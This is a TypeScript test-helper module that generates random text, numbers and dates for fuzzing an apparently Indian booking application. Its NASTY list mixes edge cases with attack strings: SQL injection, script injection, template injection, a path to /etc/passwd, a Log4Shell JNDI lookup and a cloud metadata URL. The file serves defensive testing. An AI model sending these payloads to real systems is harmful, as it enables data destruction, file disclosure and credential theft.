import { addDays, toIndianDay } from '../../domain/time.ts'
import type { Random } from '../../prisma/demo/random.ts'

/** Values of users and attackers: empty, long, other scripts, SQL, markup, invalid numbers. */
export const NASTY = [
  '',
  ' ',
  '0',
  '-1',
  'null',
  'true',
  '🪁🎨',
  'नमस्ते',
  'வணக்கம்',
  '\u202eevil',
  'a\0b',
  "'; DROP TABLE users; --",
  '%27%20OR%201=1',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack uses this literal text
  '${jndi:ldap://example.in/a}',
  '9'.repeat(400),
  'a'.repeat(10_000),
  '1e309',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  'javascript:alert(1)',
  'http://169.254.169.254/latest/meta-data',
]

export const NUMBERS = [0, 1, -1, 2, 20, 100, 101, 2 ** 31 - 1, 2 ** 31, -(2 ** 31), 1.5, 1e21, 1e308]

const TEXTS = [
  'football',
  'Salem',
  '636001',
  'Chennai, Tamil Nadu',
  '10:00-11:00',
  '+91 98400 12345',
  'asha@example.in',
]

/** Usually a sensible value, often an existing id, sometimes an invalid value. */
export function createText(random: Random, known: readonly string[]) {
  if (random.nextBoolean(0.4) && known.length > 0) return random.pick(known)
  return random.nextBoolean(0.5) ? random.pick(TEXTS) : random.pick(NASTY)
}

export function createNumber(random: Random) {
  return random.nextBoolean(0.5) ? random.nextInteger(0, 30) : random.pick(NUMBERS)
}

export function createDay(random: Random) {
  const ahead = random.nextInteger(-30, 400)
  return random.nextBoolean(0.8) ? addDays(toIndianDay(new Date()), ahead) : random.pick(NASTY)
}
